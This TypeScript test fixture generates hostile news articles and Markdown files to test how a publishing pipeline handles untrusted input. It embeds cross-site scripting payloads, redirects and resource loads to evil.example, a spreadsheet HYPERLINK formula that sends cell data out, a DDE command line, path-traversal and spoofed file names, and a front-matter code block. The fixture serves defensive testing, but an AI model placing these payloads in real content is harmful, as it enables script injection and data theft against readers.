/** What an attacker would like a reader's browser to do: each tells it by a global variable, a dialog or a request. */
const RUN = 'window.ran=1';
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  '<style>body{display:none}</style>',
  `<a href="javascript:${RUN}">here</a>`,
  `[here](javascript:${RUN})`,
  `[here](data:text/html,<script>${RUN}</script>)`,
  '![x](https://evil.example/pixel.png)',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  `" autofocus onfocus="${RUN}" x="`,
  `</title></script></textarea></blockquote><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.ran=1&#62;',
  '{{constructor.constructor("window.ran=1")()}}${window.ran=1}<%= 1 %>',
];

const yaml = (text: string): string => JSON.stringify(text);

/** One article: a payload in its headline, its front matter, among its words, in a name and in what it quotes. */
function article(payload: string, index: number, rights: string): string {
  return `---
title: ${yaml(`Talks ${payload} resume`)}
date: 2024-05-${String(10 + index).padStart(2, '0')}
publisher: ${yaml(`News ${payload}`)}
author: ${yaml(`A. Writer ${payload}`)}
url: ${yaml(`https://news.example/talks?a=${index}"'><script>${RUN}</script>&b=%3Cscript%3E#:~:text=x`)}
rights: ${yaml(rights)}
tags: [${yaml(payload)}]
---
Egypt hosted talks on Thursday between Israel ${payload} and Hamas in Cairo, two officials said.

“We ${payload} are close,” Egypt said on Friday. More than ${index}1,000 people ${payload} have been killed in Gaza, the health ministry ${payload} says.

=HYPERLINK("https://evil.example/?"&A1) said Ferdinand ${payload} Quillfeather, who told Israel on Saturday that 33 hostages would be freed.

=cmd|'/c calc'!A1 Hamas rejected the proposal ${payload} on Sunday.
`;
}

/** The same as Markdown, with links and quoted blocks that a converter would make elements of. */
function markdown(payload: string): string {
  return `# Talks *resume* ${payload}

> Egypt hosted [talks](javascript:${RUN}) on Thursday between **Israel** and Hamas, ${payload} two officials said.

- Hamas freed 12 hostages on Friday <b onclick="${RUN}">in Gaza</b>. ${payload}
- [More](https://news.example/ "x\\" onmouseover=\\"${RUN}")

\`\`\`html
${payload}
\`\`\`

[ref]: javascript:${RUN}
See [this][ref] and <javascript:${RUN}>.
`;
}

/** Names that lead out of a folder, take an address of the site's own, or hold signs of addresses and markup. */
const NAMES: readonly string[] = [
  '"><script>window.ran=1<!--.txt',
  'page/2.txt',
  'index.txt',
  '%2e%2e%2fx.txt',
  'a?b#c d&e.txt',
  '__proto__.txt',
  'constructor/prototype.txt',
  "it's \u202Etxt.exe.txt",
  'x\\..\\y.txt',
  `${'é'.repeat(120)}.txt`,
];

/** Articles under their file names. */
export function hostileArticles(): Record<string, string> {
  return Object.fromEntries([
    ...PAYLOADS.map((payload, index) => [`plain-${index}.txt`, article(payload, index, index % 2 === 0 ? 'full' : 'none')]),
    ...PAYLOADS.map((payload, index) => [`marked-${index}.md`, markdown(payload)]),
    ...NAMES.map((name, index) => [name, article('', index, 'full')]),
    ['address.txt', `${article('', 2, 'full').replace(/^---[\s\S]*?---\n/, '')}\nSource: https://[2001\n`],
    ['code.txt', `---js\nglobalThis.ran = process.exit(7)\n---\n${article('', 1, 'full')}`],
  ]) as Record<string, string>;
}
